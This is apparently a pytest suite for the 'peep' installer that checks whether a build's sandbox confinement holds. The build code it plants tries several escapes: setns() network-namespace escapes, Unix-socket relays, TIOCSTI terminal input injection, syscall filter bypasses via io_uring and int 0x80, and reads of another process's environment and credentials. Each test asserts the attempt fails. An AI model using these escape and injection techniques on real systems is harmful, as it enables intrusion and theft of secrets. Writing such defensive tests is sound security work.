"""Attacks by a verified sdist's build on the environment peep builds it in.

Each test here tries one way for a verified sdist's build to reach or run
code that nobody verified, or to leave the network it was shut out of.
The unverified code is really there (served at /evil/ on the loopback
server, or planted where the attack needs it) and writes a telltale if it
runs; each test asserts that it did not.
"""

from __future__ import annotations

import os
import subprocess
import sys
import sysconfig
import tempfile
import textwrap
from pathlib import Path
from typing import Any, Dict, Iterator, Optional

import pytest
from helpers import (
    PEEP,
    TELLTALE_ENV,
    Deploy,
    Served,
    block,
    confinement_refused,
    report,
    reports,
    sdist_bytes,
    wait_for,
    wheel_bytes,
)

import peep


@pytest.fixture
def outside() -> Iterator[Path]:
    """A directory of the test's outside /tmp, which a confined build sees (read-only).

    Under --build-network=none the build's /tmp is a private one: what the
    test keeps under /tmp (tmp_path) the build does not even see.
    """
    directory = Path(tempfile.mkdtemp(prefix="peep-test-", dir="/var/tmp"))
    try:
        yield directory
    finally:
        import shutil
        shutil.rmtree(directory, ignore_errors=True)


def _outer_environment(tmp_path: Path) -> str:
    """A virtual environment whose site-packages holds a .pth file with code in it.

    The .pth file also puts the test interpreter's site-packages (pip,
    packaging) on the path, so that peep runs from it as from any
    environment. Its code writes a telltale, but only in a process that a
    build started (marked by PEEP_TEST_BUILD_CHILD), never in peep or pip.
    """
    venv = tmp_path / "outer"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    python = venv / "bin" / "python"
    site_packages = subprocess.run(
        [str(python), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
        check=True, capture_output=True, text=True,
    ).stdout.strip()
    code = (
        "import os; d = os.environ.get('PEEP_TEST_BUILD_CHILD'); "
        "d and open(os.path.join(d, 'outer-pth.ran'), 'w').write('outer code ran')\n"
    )
    Path(site_packages, "outer_telltale.pth").write_text(
        sysconfig.get_paths()["purelib"] + "\n" + code
    )
    return str(python)


# What a build's child Python saw of pytest: a child that failed for another reason says why.
_SEEN = ('"visible" if _child.returncode == 0 else '
         '"hidden" if "No module named \'pytest\'" in _child.stderr else _child.stderr')


def test_child_interpreters_of_a_build_do_not_run_the_outer_environments_pth_files(
    deploy: Deploy, tmp_path: Path
) -> None:
    """README: child Python processes a build starts see only the build environment.

    site.py runs every .pth file of the interpreter's own site-packages at
    start-up, so filtering sys.path afterwards would be too late: the build
    interpreter must have no site-packages but the build environment's.
    """
    python = _outer_environment(tmp_path)
    code = f"""
import os, subprocess, sys
_child = subprocess.run(
    [sys.executable, "-c", "import pytest"],
    env=dict(os.environ, PEEP_TEST_BUILD_CHILD=os.environ[{TELLTALE_ENV!r}]),
    capture_output=True, text=True,
)
with open(os.path.join(os.environ[{TELLTALE_ENV!r}], "child-imports.txt"), "w") as f:
    f.write({_SEEN})
"""
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install(python=python)
    assert result.returncode == 0, result.stderr
    assert deploy.installed() == {"beta": "2.0"}
    assert not (deploy.telltales / "outer-pth.ran").exists()  # the outer .pth's code ran
    assert (deploy.telltales / "child-imports.txt").read_text() == "hidden"


def _unix_relay(path: str, port: int) -> None:
    """Serve a Unix socket that passes each connection on to 127.0.0.1:port.

    Such sockets are common on a developer's machine or a CI runner (a local
    proxy, a container engine's API, an agent): they live in the file
    system, not in a network namespace.
    """
    import socket
    import threading

    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    server.listen(4)

    def pump(source: socket.socket, sink: socket.socket) -> None:
        try:
            while True:
                data = source.recv(65536)
                if not data:
                    break
                sink.sendall(data)
        except OSError:
            pass
        finally:
            try:
                sink.shutdown(socket.SHUT_WR)
            except OSError:
                pass

    def serve() -> None:
        while True:
            try:
                client, _ = server.accept()
            except OSError:
                return
            upstream = socket.create_connection(("127.0.0.1", port))
            threading.Thread(target=pump, args=(client, upstream), daemon=True).start()
            threading.Thread(target=pump, args=(upstream, client), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()


def confined_build(
    deploy: Deploy,
    network: str,
    code: str,
    helper: Optional[Served] = None,
    env: Optional[Dict[str, str]] = None,
) -> Dict[str, object]:
    """Build an sdist whose backend runs ``code``; return what it reported.

    ``helper``: a wheel the build requires; ``env``: more variables for peep.
    Under --build-network=none the build cannot write the telltale dir (it
    is outside the build's own directories), so it is not passed on: the
    build reports on its output instead, which -v shows.
    """
    if network == "none":
        refused = confinement_refused()
        if refused:
            pytest.skip(refused)
    requires = [helper.project] if helper else []
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code, build_requires=requires))
    lines = block(sdist.data, "beta==2.0") + (block(helper.data, f"{helper.project}==1.0")
                                               if helper else "")
    deploy.write(lines)
    variables = {"PEEP_BUILD_ENV": ""} if network == "none" else {}
    env = deploy.env(**{**variables, **(env or {})})
    result = deploy.install(f"--build-network={network}", "-v", env=env)
    assert result.returncode == 0, result.stderr
    assert deploy.installed() == {"beta": "2.0", **({helper.project: "1.0"} if helper else {})}
    return reports(result.stderr)


def assert_isolated_build_reaches_nothing(deploy: Deploy, attempt: str) -> None:
    """Build an sdist whose backend runs ``attempt`` with --build-network=none; it must reach nothing.

    ``attempt`` sets ``_reached``; an OSError on the way counts as blocked.
    """
    code = f"""
import os, socket
try:
{textwrap.indent(attempt.strip(), "    ")}
except OSError:
    _reached = "blocked"
{report("socket", "_reached")}"""
    assert confined_build(deploy, "none", code)["socket"] == "blocked"
    assert deploy.index.evil_requests() == []


@pytest.mark.skipif(sys.platform != "linux", reason="network namespaces are Linux's")
def test_build_network_none_stops_unix_sockets_too(deploy: Deploy, outside: Path) -> None:
    """README: with --build-network=none "no socket can reach anything".

    A network namespace holds IP and abstract Unix sockets only; a Unix
    socket with a path is reached through the file system, and whatever
    listens there (here, a relay to the loopback server) carries the build
    wherever it goes.
    """
    relay = str(outside / "relay.sock")
    _unix_relay(relay, deploy.index.port)
    assert_isolated_build_reaches_nothing(deploy, f"""
_s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
_s.settimeout(10)
_s.connect({relay!r})
_s.sendall(b"GET /evil/unix-socket HTTP/1.0\\r\\n\\r\\n")
_reached = "reached" if _s.recv(100) else "blocked"
""")


def test_a_build_runs_its_verified_build_dependencys_command_not_the_outer_one(
    deploy: Deploy, tmp_path: Path
) -> None:
    """A build dependency's command (cython, cmake, ninja...) must be the verified one.

    pip installs the verified wheel's scripts into the build environment's
    bin directory, but peep never puts that directory on PATH: a build
    that runs the command by name runs whatever the user's PATH finds first
    (an activated environment's copy, say), code this run never verified.
    pip's own isolated builds put the environment's scripts first on PATH.
    """
    outer_bin = tmp_path / "outer-bin"
    outer_bin.mkdir()
    outer_tool = outer_bin / "tool"
    outer_tool.write_text(
        "#!/bin/sh\n"
        f'echo "outer tool ran" > "${TELLTALE_ENV}/outer-tool.ran"\n'
        "echo outer\n"
    )
    outer_tool.chmod(0o755)
    tool = deploy.index.add(wheel_bytes(
        "tool", "1.0", extra_files={"tool-1.0.data/scripts/tool": b"#!python\nprint('verified')\n"}
    ))
    code = f"""
import os, subprocess
_out = subprocess.run(["tool"], capture_output=True, text=True).stdout.strip()
with open(os.path.join(os.environ[{TELLTALE_ENV!r}], "tool.txt"), "w") as f:
    f.write(_out)
"""
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", build_requires=["tool"], backend_code=code))
    env = deploy.env()
    env["PATH"] = f"{outer_bin}{os.pathsep}{env.get('PATH', os.defpath)}"
    deploy.write(block(sdist.data, "beta==2.0") + block(tool.data, "tool==1.0"))
    result = deploy.install(env=env)
    assert result.returncode == 0, result.stderr
    assert not (deploy.telltales / "outer-tool.ran").exists()
    assert (deploy.telltales / "tool.txt").read_text() == "verified"


@pytest.mark.parametrize("flag", ["-I", "-E"])
def test_child_interpreters_started_with_isolation_flags_still_see_only_the_build_environment(
    deploy: Deploy, flag: str
) -> None:
    """-I (and -E) drop PYTHONPATH but not site-packages: the interpreter itself must be bare.

    Tools do start Python this way (``-I`` is the usual advice for running
    a helper safely), and such a child of a build imports the packages
    installed where peep runs: pytest here, anything at all in general.
    """
    code = f"""
import os, subprocess, sys
_child = subprocess.run([sys.executable, {flag!r}, "-c", "import pytest"], capture_output=True, text=True)
with open(os.path.join(os.environ[{TELLTALE_ENV!r}], "child-imports.txt"), "w") as f:
    f.write({_SEEN})
"""
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install()
    assert result.returncode == 0, result.stderr
    assert (deploy.telltales / "child-imports.txt").read_text() == "hidden"


@pytest.mark.skipif(sys.platform != "linux" or os.geteuid() != 0,
                    reason="only root keeps the right to re-enter the host's network namespace")
def test_build_network_none_cannot_be_left_by_a_build_running_as_root(deploy: Deploy) -> None:
    """As root (a container build, a CI job), a build must not be able to setns() back.

    A root process that only unshared its network namespace keeps
    CAP_SYS_ADMIN in the initial user namespace, so it may setns() back
    into the network namespace of its parent, peep, and reach whatever peep
    can. In a user namespace of its own it has no such right.
    """
    assert_isolated_build_reaches_nothing(deploy, f"""
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_peep = int(os.readlink("/proc/self"))  # up two: the runner waiting for the hook, then peep
for _ in range(2):
    _peep = int(open("/proc/%d/stat" % _peep).read().rpartition(")")[2].split()[1])
_fd = os.open("/proc/%d/ns/net" % _peep, os.O_RDONLY)
_libc.setns(_fd, 0x40000000)
_s = socket.create_connection(("127.0.0.1", {deploy.index.port}), timeout=10)
_s.sendall(b"GET /evil/setns HTTP/1.0\\r\\n\\r\\n")
_reached = "reached" if _s.recv(100) else "blocked"
""")


# --- Confinement: what every build gets, and what --build-network=none adds ---------------

# Build code that reports how each attempt ended: "reached" if nothing stopped
# it, or the name of the error that did.
ATTEMPT = """
import ctypes, errno, fcntl, os, socket, termios
_libc = ctypes.CDLL(None, use_errno=True)


def _attempt(name, action):
    try:
        action()
        outcome = "reached"
    except OSError as exc:
        outcome = errno.errorcode.get(exc.errno, str(exc.errno))
    {report}


def _check(status):
    if status < 0:
        raise OSError(ctypes.get_errno(), "refused")


def _peep():
    # peep's pid: the hook's grandparent (its parent waits for it), seen from outside any
    # PID namespace through /proc
    pid = int(os.readlink("/proc/self"))
    for _ in range(2):
        pid = int(open("/proc/%d/stat" % pid).read().rpartition(")")[2].split()[1])
    return pid
""".format(report=report("name", "outcome").replace("'name'", "name").strip())


def _own_terminal() -> str:
    """Code that gives the build a terminal of its own to push input into.

    A session leader (as peep makes every build) may take a new pty as its
    controlling terminal, where the kernel allows TIOCSTI to anyone: only the
    filter stands in the way.
    """
    return """
def _tiocsti():
    _master, _slave = os.openpty()
    fcntl.ioctl(_slave, termios.TIOCSCTTY, 0)
    fcntl.ioctl(_slave, termios.TIOCSTI, b"x")
"""


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
@pytest.mark.parametrize("network", ["closed", "none"])
def test_a_build_dependencys_pth_runs_only_once_the_build_is_confined(
    deploy: Deploy, network: str
) -> None:
    """A .pth in a verified build dependency runs at start-up: after confinement, not before.

    The hook runner starts with site off (python -I -S), confines itself,
    and only then lets site process the build environment's .pth files.
    """
    probe = ATTEMPT + _own_terminal() + f"""
_status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
{report("pth_seccomp", "_status['Seccomp'].strip()")}
_attempt("pth_tiocsti", _tiocsti)
def _phone_home():
    with socket.create_connection(("127.0.0.1", {deploy.index.port}), timeout=10) as s:
        s.sendall(b"GET /evil/pth HTTP/1.0\\r\\n\\r\\n")
        s.recv(100)
_attempt("pth_connect", _phone_home)
"""
    helper = deploy.index.add(wheel_bytes("helper", "1.0", extra_files={
        "helper_probe.pth": b"import helper_probe\n", "helper_probe.py": probe.encode(),
    }))
    found = confined_build(deploy, network, "", helper)
    assert found["pth_seccomp"] == "2"  # SECCOMP_MODE_FILTER, in place when the .pth ran
    assert found["pth_tiocsti"] == "EPERM"
    if network == "none":
        assert found["pth_connect"] != "reached"
        assert deploy.index.evil_requests() == []


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
@pytest.mark.parametrize("network", ["closed", "none"])
def test_a_build_dependencys_pth_never_runs_while_its_environment_is_prepared(
    deploy: Deploy, network: str
) -> None:
    """pip installs the verified build dependencies unconfined: no .pth of theirs may run then.

    Each run of the .pth leaves a file named by its Seccomp mode, where it can: under closed
    every run must be a confined one (2); under none a confined run cannot write there at all.
    """
    probe = f"""
import os
_mode = [line.split()[1] for line in open("/proc/self/status") if line.startswith("Seccomp:")]
try:
    open(os.path.join({str(deploy.telltales)!r}, "pth-%d-seccomp-%s" % (os.getpid(), _mode[0])),
         "w").close()
except OSError:
    pass  # out of sight: a confined run under none
"""
    helper = deploy.index.add(wheel_bytes("helper", "1.0", extra_files={
        "helper_probe.pth": b"import helper_probe\n", "helper_probe.py": probe.encode(),
    }))
    confined_build(deploy, network, "", helper)
    runs = [name for name in deploy.ran() if name.startswith("pth-")]
    if network == "closed":
        assert runs and all(name.endswith("-seccomp-2") for name in runs), runs
    else:
        assert runs == []


@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
@pytest.mark.parametrize("network", ["closed", "none"])
def test_a_build_inherits_no_descriptor_of_peeps(deploy: Deploy, network: str) -> None:
    """A hook holds stdin (/dev/null), its log, its reply: no socket or file of peep's besides."""
    code = """
_descriptors = {}
for _fd in os.listdir("/proc/self/fd"):
    try:
        _descriptors[int(_fd)] = os.readlink("/proc/self/fd/" + _fd)
    except OSError:
        pass  # the listing's own, closed
""" + report("descriptors", "_descriptors")
    found = confined_build(deploy, network, code)["descriptors"]
    assert isinstance(found, dict) and sorted(found) == [0, 1, 2, 3], found
    assert found[0] == os.devnull and found[1] == found[2] and found[1].endswith(".log")
    assert found[3].endswith(os.sep + "hook-output.json")


def _socket_attempts(outside: Path) -> str:
    """Code that tries every way this test knows to a Unix socket outside, or past the filter."""
    stream, datagram = outside / "stream.sock", outside / "datagram.sock"
    return ATTEMPT + f"""
_stream, _datagram = {str(stream)!r}, {str(datagram)!r}
_attempt("unix_stream", lambda: socket.socket(socket.AF_UNIX).connect(_stream))
_attempt("unix_datagram",
         lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", _datagram))
for _name, _kind in (("datagram_pair", socket.SOCK_DGRAM),
                     ("datagram_cloexec_pair", socket.SOCK_DGRAM | socket.SOCK_CLOEXEC)):
    _attempt(_name, lambda: socket.socketpair(socket.AF_UNIX, _kind)[0].sendto(b"x", _datagram))
_attempt("seqpacket_pair", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET))
_attempt("stream_pair_connect", lambda: socket.socketpair()[0].connect(_stream))
_attempt("stream_pair_sendmsg", lambda: socket.socketpair()[0].sendmsg([b"x"], [], 0, _datagram))
_attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))  # AF_VSOCK: the host's
_attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW))  # AF_PACKET
_attempt("io_uring", lambda: _check(_libc.syscall(425, 8, ctypes.create_string_buffer(120))))
if os.uname().machine == "x86_64":  # getpid through the x32 ABI, and the i386 one
    _attempt("x32", lambda: _check(_libc.syscall(39 | 0x40000000)))
    import mmap
    _code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    _code.write(bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3]))  # mov eax, 20; int 0x80; ret
    _int80 = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(_code)))
    {report("i386", "_int80()")}
_pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
_pair[0].sendall(b"ok")
{report("stream_pair", "_pair[1].recv(2)")}"""


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
@pytest.mark.parametrize("network", ["closed", "none"])
def test_build_network_none_leaves_sockets_only_of_the_families_it_isolates(
    deploy: Deploy, outside: Path, network: str
) -> None:
    """README: under none, IP and netlink sockets (in the empty namespace) and stream pairs only.

    The test listens on Unix sockets with a path outside /tmp, which a
    build under none sees: a datagram socketpair could sendto() them, and
    nothing in a network namespace stops that. Under closed (the default)
    they are reached: the README says so. io_uring and the x32 ABI, which
    would pass the filter by, are refused in both modes.
    """
    import socket

    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(outside / "stream.sock"))
    listener.listen(8)
    datagrams = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    datagrams.bind(str(outside / "datagram.sock"))
    found = confined_build(deploy, network, _socket_attempts(outside))
    outside_reached = ["unix_stream", "unix_datagram", "datagram_pair", "datagram_cloexec_pair",
                       "seqpacket_pair"]
    expected = {name: "EPERM" for name in outside_reached}
    if network == "closed":
        expected = {name: "reached" for name in outside_reached}
    expected.update(stream_pair_connect="EISCONN", stream_pair_sendmsg="EISCONN",
                    io_uring="EPERM", stream_pair=b"ok")
    if os.uname().machine == "x86_64":  # -1: -EPERM, not the pid (or -ENOSYS, -38)
        expected.update(x32="EPERM", i386=-1)
    if network == "none":
        expected.update(vsock="EPERM", packet="EPERM")
    else:  # whether these work outside depends on the kernel and on root: not compared
        del found["vsock"], found["packet"]
    assert found == expected
    listener.setblocking(False)
    datagrams.setblocking(False)
    if network == "none":  # nothing arrived: the build has finished, so it would be queued
        with pytest.raises(BlockingIOError):
            listener.accept()
        with pytest.raises(BlockingIOError):
            datagrams.recv(10)


def _write_attempts(places: Dict[str, Path]) -> str:
    """Code that tries to write a file in each place, and to undo the read-only mounts."""
    return ATTEMPT + f"""
import sys
def _write(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as stream:
        stream.write("written by a build")
for _name, _path in {({k: str(v) for k, v in places.items()})!r}.items():
    _attempt(_name, lambda: _write(_path))
_attempt("own_workspace", lambda: _write(os.path.join(os.getcwd(), "written")))
_attempt("private_home", lambda: _write(os.path.expanduser("~/written")))
_attempt("environment", lambda: _write(os.path.join(sys.prefix, "written")))
_outside = os.path.dirname({str(places["outside"])!r})
_attempt("proc_root", lambda: _write("/proc/%d/root%s/via-proc" % (_peep(), _outside)))
# Opened for writing, never written: as root, either would change the host.
_attempt("proc_sys", lambda: os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)))
_attempt("sysrq", lambda: os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY)))


def _undo(unshare_first):
    # mount_setattr("/", AT_RECURSIVE, clear MOUNT_ATTR_RDONLY), in a child
    child = os.fork()
    if child == 0:
        import struct
        if unshare_first and _libc.unshare(0x10000000 | 0x00020000) != 0:
            os._exit(ctypes.get_errno())
        attributes = struct.pack("QQQQ", 0, 1, 0, 0)
        if _libc.syscall(442, -100, b"/", 0x8000, attributes, 32) != 0:
            os._exit(ctypes.get_errno())
        try:
            _write(os.path.join(_outside, "undone"))
        except OSError as exc:
            os._exit(exc.errno)
        os._exit(0)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if status:
        raise OSError(status, "refused")
_attempt("undo_read_only", lambda: _undo(False))
_attempt("undo_in_a_new_namespace", lambda: _undo(True))
"""


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
@pytest.mark.parametrize("network", ["closed", "none"])
def test_build_network_none_leaves_the_build_only_its_own_directories_to_write(
    deploy: Deploy, outside: Path, tmp_path: Path, network: str
) -> None:
    """README: under none everything is read-only but the build's own directories and /tmp.

    /tmp is a private one: what a build writes there, it writes for itself.
    Under closed (the default) the file system is not confined, and the
    README says so: there every write reaches its place.
    """
    import uuid

    home = outside / "home"
    home.mkdir()
    places = {
        "outside": outside / "written",
        "test_tmp": tmp_path / "written",
        "shared_tmp": Path("/tmp", f"peep-test-{uuid.uuid4().hex}", "written"),
        "home": home / "written",
    }
    try:
        found = confined_build(deploy, network, _write_attempts(places), env={"HOME": str(home)})
        written = {name: path.exists() for name, path in places.items()}
    finally:
        import shutil
        shutil.rmtree(places["shared_tmp"].parent, ignore_errors=True)
    assert found["own_workspace"] == found["private_home"] == "reached"
    if network == "closed":
        assert written == {name: True for name in places}
        return
    assert written == {name: False for name in places}
    assert {name: found[name] for name in ("outside", "home", "environment")} == {
        "outside": "EROFS", "home": "EROFS", "environment": "EROFS"}
    assert found["test_tmp"] == found["shared_tmp"] == "reached"  # in the private /tmp
    assert found["proc_root"] != "reached" and not (outside / "via-proc").exists()
    assert found["proc_sys"] != "reached" and found["sysrq"] != "reached"
    assert found["undo_read_only"] == found["undo_in_a_new_namespace"] == "EPERM"
    assert not (outside / "undone").exists()


SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "aws-secret-9f2c",
    "GITHUB_TOKEN": "ghp_secret-77ab",
    "SSH_AUTH_SOCK": "/run/agent-secret.sock",
    "SOME_RANDOM_SECRET": "random-secret-31d0",
    "PYTHON_UPLOAD_TOKEN": "pypi-secret-0c4e",
}


@pytest.mark.parametrize("network", ["closed", "none"])
def test_a_build_sees_only_the_allowlisted_part_of_your_environment(
    deploy: Deploy, network: str
) -> None:
    """README: no token or credential of yours reaches a build, only the allowlist.

    What the build does name by PEEP_BUILD_ENV reaches it, but never a
    PIP_* or PYTHON* variable, and the proxies stay peep's closed ones.
    """
    code = ATTEMPT + report("environment", "dict(os.environ)") + """
_attempt("peeps_environment", lambda: open("/proc/%d/environ" % _peep(), "rb").read())
"""
    env = dict(SECRETS, LC_ALL="C.UTF-8", CFLAGS="-O1", MY_SETTING="kept",
               PYTHONPATH="/nowhere", PIP_INDEX_URL="http://127.0.0.1:9/",
               PEEP_BUILD_ENV="MY_SETTING PYTHONPATH PIP_INDEX_URL https_proxy")
    reported = confined_build(deploy, network, code, env=env)
    # peep's own environment, in /proc, is out of reach under none only.
    assert (reported["peeps_environment"] == "reached") == (network == "closed")
    found = reported["environment"]
    assert isinstance(found, dict)
    assert not [key for key, value in found.items() if key in SECRETS or value in SECRETS.values()]
    assert (found["LC_ALL"], found["CFLAGS"], found["MY_SETTING"]) == ("C.UTF-8", "-O1", "kept")
    assert "PYTHONPATH" not in found and "PIP_INDEX_URL" not in found
    assert found["https_proxy"].startswith("http://127.0.0.1:") and found["PIP_NO_INDEX"] == "1"
    assert found["TMPDIR"].endswith(os.sep + "tmp") and "peep-" in found["TMPDIR"]
    assert (found["HOME"] == os.environ["HOME"]) == (network == "closed")


def test_the_pip_that_prepares_a_build_environment_gets_the_allowlist_too(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for key, value in SECRETS.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("PEEP_BUILD_ENV", "PIP_CERT")
    monkeypatch.setenv("PIP_CERT", "/etc/yours.pem")
    monkeypatch.setenv("LANG", "C.UTF-8")
    variables = peep.build_variables(9, "/private/tmp")
    assert not set(SECRETS) & set(variables) and "PIP_CERT" not in variables
    assert variables["LANG"] == "C.UTF-8" and variables["TMPDIR"] == "/private/tmp"
    assert variables["PIP_CONFIG_FILE"] == os.devnull and variables["PIP_NO_INDEX"] == "1"
    assert variables["http_proxy"] == "http://127.0.0.1:9"


# peep as started from a terminal: in a session of its own, the pty its
# controlling terminal and its stdin.
_FROM_A_TERMINAL = (
    "import fcntl, os, runpy, sys, termios; os.setsid(); fcntl.ioctl(0, termios.TIOCSCTTY, 0); "
    "sys.argv = sys.argv[1:]; runpy.run_path(sys.argv[0], run_name='__main__')"
)


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
@pytest.mark.parametrize("network", ["closed", "none"])
def test_a_build_cannot_type_into_the_terminal_peep_runs_in(deploy: Deploy, network: str) -> None:
    """TIOCSTI pushes input into a terminal: a build could type commands into your shell.

    A session of its own takes the terminal away from the build (/dev/tty
    fails), but the device stays openable by its path, and root (or a
    process with CAP_SYS_ADMIN) may push input into any terminal: the
    filter refuses TIOCSTI, and TIOCLINUX, whatever the terminal. Under
    none the build has terminals of its own and does not see yours at all
    (escape sequences can make a terminal type a reply); under closed it
    can write to it, as the README says.
    """
    if network == "none" and confinement_refused():
        pytest.skip(confinement_refused())
    master, slave = os.openpty()
    terminal = os.ttyname(slave)
    code = ATTEMPT + f"""
_attempt("dev_tty", lambda: os.close(os.open("/dev/tty", os.O_RDWR)))
def _ioctl(request, argument):
    fd = os.open({terminal!r}, os.O_RDWR | os.O_NOCTTY)
    fcntl.ioctl(fd, request, argument)
_attempt("tiocsti", lambda: _ioctl(termios.TIOCSTI, b"x"))
_attempt("tioclinux", lambda: _ioctl(0x541C, bytes([17])))  # TIOCL_GETKMSGREDIRECT
def _write():
    fd = os.open({terminal!r}, os.O_WRONLY | os.O_NOCTTY)
    os.write(fd, b"y")
_attempt("write", _write)
{report("stdin", "os.read(0, 10)")}"""
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code))
    deploy.write(block(sdist.data, "beta==2.0"))
    try:
        result = subprocess.run(
            [sys.executable, "-c", _FROM_A_TERMINAL, str(PEEP), "install", "-r",
             str(deploy.requirements), "--target", str(deploy.target), *deploy.finder,
             f"--build-network={network}", "-v"],
            stdin=slave, capture_output=True, text=True, timeout=300,
            env=deploy.env(PEEP_BUILD_ENV=""),
        )  # fmt: skip
        os.set_blocking(master, False)
        try:
            typed = os.read(master, 100)
        except BlockingIOError:
            typed = b""
    finally:
        os.close(master)
        os.close(slave)
    assert result.returncode == 0, result.stderr
    expected = {"dev_tty": "ENXIO", "tiocsti": "EPERM", "tioclinux": "EPERM", "write": "reached"}
    if network == "none":  # the terminal is out of sight: the build has terminals of its own
        expected.update(tiocsti="ENOENT", tioclinux="ENOENT", write="ENOENT")
    assert reports(result.stderr) == dict(expected, stdin=b"")
    assert b"x" not in typed and (b"y" in typed) == (network == "closed")


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as stream:
            return stream.read().rpartition(")")[2].split()[0] != "Z"
    except FileNotFoundError:
        return False


def _lingering_child(pid_file: Path) -> str:
    """Build code that starts a child ignoring SIGINT, and records its pid once it does."""
    child = ("import os, signal, sys, time; signal.signal(signal.SIGINT, signal.SIG_IGN); "
             "os.write(int(sys.argv[1]), b'x'); time.sleep(600)")
    return f"""
import os, subprocess, sys
_read, _write = os.pipe()
_child = subprocess.Popen([sys.executable, "-c", {child!r}, str(_write)], pass_fds=(_write,))
os.close(_write)
os.read(_read, 1)  # it ignores SIGINT from here on
with open({str(pid_file)!r} + ".part", "w") as f:
    f.write(str(_child.pid))
os.rename({str(pid_file)!r} + ".part", {str(pid_file)!r})
"""


def _install_building(deploy: Deploy, code: str, **popen: Any) -> subprocess.Popen[str]:
    """Start ``peep install`` of an sdist whose backend runs ``code``, without waiting for it."""
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code))
    deploy.write(block(sdist.data, "beta==2.0"))
    return subprocess.Popen(
        [sys.executable, str(PEEP), "install", "-r", str(deploy.requirements), "--target",
         str(deploy.target), *deploy.finder],
        env=deploy.env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **popen,
    )  # fmt: skip


@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
def test_what_a_build_leaves_running_is_stopped_when_its_hook_ends(deploy: Deploy) -> None:
    """A daemon a build starts (and does not wait for) does not run on after the hook."""
    import signal

    pid_file = deploy.telltales / "child.pid"
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=_lingering_child(pid_file)))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install()
    pid = int(pid_file.read_text())
    try:
        assert result.returncode == 0, result.stderr
        assert wait_for(lambda: not _alive(pid), timeout=30), "the build's child outlived its hook"
    finally:
        if _alive(pid):
            os.kill(pid, signal.SIGKILL)


@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
def test_interrupting_peep_stops_what_a_build_started_too(deploy: Deploy) -> None:
    """A build's children share its process group, and the group is stopped with it.

    The child ignores SIGINT, as a daemon a build leaves behind may: it is
    killed once the build itself has stopped.
    """
    import signal

    pid_file = deploy.telltales / "child.pid"
    process = _install_building(deploy, _lingering_child(pid_file) + "import time\ntime.sleep(600)\n")
    pid = 0
    try:
        assert wait_for(pid_file.exists, timeout=120)
        pid = int(pid_file.read_text())
        process.send_signal(signal.SIGTERM)
        _, stderr = process.communicate(timeout=120)
        assert process.returncode == 128 + signal.SIGTERM, stderr
        assert wait_for(lambda: not _alive(pid), timeout=30), "the build's child outlived peep"
    finally:
        process.kill()
        if pid and _alive(pid):
            os.kill(pid, signal.SIGKILL)


@pytest.mark.skipif(os.name != "posix", reason="POSIX signal dispositions")
def test_an_interrupted_hook_is_interrupted_even_where_peep_started_with_sigint_ignored(
    deploy: Deploy,
) -> None:
    """A shell's background job starts with SIGINT ignored, and Python keeps ignoring it; peep
    stops a hook with SIGINT, so the hook must not inherit that, or it is killed 30 s later."""
    import signal

    started, interrupted = deploy.telltales / "started", deploy.telltales / "interrupted"
    code = f"""
import pathlib, time
pathlib.Path({str(started)!r}).write_text("x")
try:
    time.sleep(600)
except KeyboardInterrupt:
    pathlib.Path({str(interrupted)!r}).write_text("x")
    raise
"""
    process = _install_building(deploy, code, preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_IGN))
    try:
        assert wait_for(started.exists, timeout=120)
        process.send_signal(signal.SIGTERM)
        _, stderr = process.communicate(timeout=120)
        assert process.returncode == 128 + signal.SIGTERM, stderr
        assert interrupted.exists(), "the hook was killed, never interrupted"
    finally:
        process.kill()


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
def test_a_build_under_none_cannot_loosen_the_next_hooks_confinement(deploy: Deploy) -> None:
